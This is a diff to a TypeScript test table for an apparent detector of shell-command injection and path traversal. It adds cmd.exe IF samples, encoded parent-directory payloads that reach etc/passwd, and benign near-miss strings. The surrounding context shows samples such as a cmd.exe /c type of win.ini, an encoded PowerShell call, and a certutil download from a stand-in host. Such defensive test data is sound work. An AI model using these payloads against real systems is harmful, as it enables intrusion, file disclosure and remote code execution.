@@ -306,6 +306,10 @@ const TABLES: readonly ClassTable[] = [
       // cmd.exe's FOR loop.
       "for /f %a in ('whoami') do echo %a",
       'FOR /R C:\\bla    %A IN (set) DO abc',
+      // cmd.exe's IF, with what only batch files test.
+      'if "%1"=="" goto ERROR',
+      'IF EXIST C:\\pagefile.sys CMD',
+      'IF %ERRORLEVEL% EQU 2 goto sub_problem2',
       '&& cmd.exe /c "type C:\\Windows\\win.ini"',
       '| powershell -enc SQBFAFgA',
       '& certutil -urlcache -f http://x.example/a.exe a.exe',
@@ -314,6 +318,9 @@ const TABLES: readonly ClassTable[] = [
       'expr * expr',
       'expr / expr',
       'for each item in the list do this',
+      'if defined in the config file',
+      'if exist in the list',
+      'if x==y: return',
       'for 100% of users in (beta) do more',
       'Tom & Jerry; more to come',
       '$5 off; today only',
@@ -362,6 +369,10 @@ const TABLES: readonly ClassTable[] = [
       '/C:/inetpub/ftproot/',
       '/var/www/logs/error_log',
       '/usr/local/apache2/conf/httpd.conf',
+      // Parent-directory steps as decoders mangle them.
+      '..2f..2f..2fetc2fpasswd',
+      '/0x2e0x2e0x2f',
+      '/..%uEFC8..%uEFC8..%uEFC8',
       // Runs of dots as a segment, shell dotfiles by path.
       '/.../.../.../',
       '/.bashrc',
@@ -370,6 +381,8 @@ const TABLES: readonly ClassTable[] = [
     passed: [
       '.bash_profile',
       '~/.bashrc',
+      'colour 0x2e 0x2f',
+      'rev 2f..2g',
       '/shop-app/logs/debug',
       '/shop-app/error_log',
       'C:\\fakepath\\holiday.jpg',
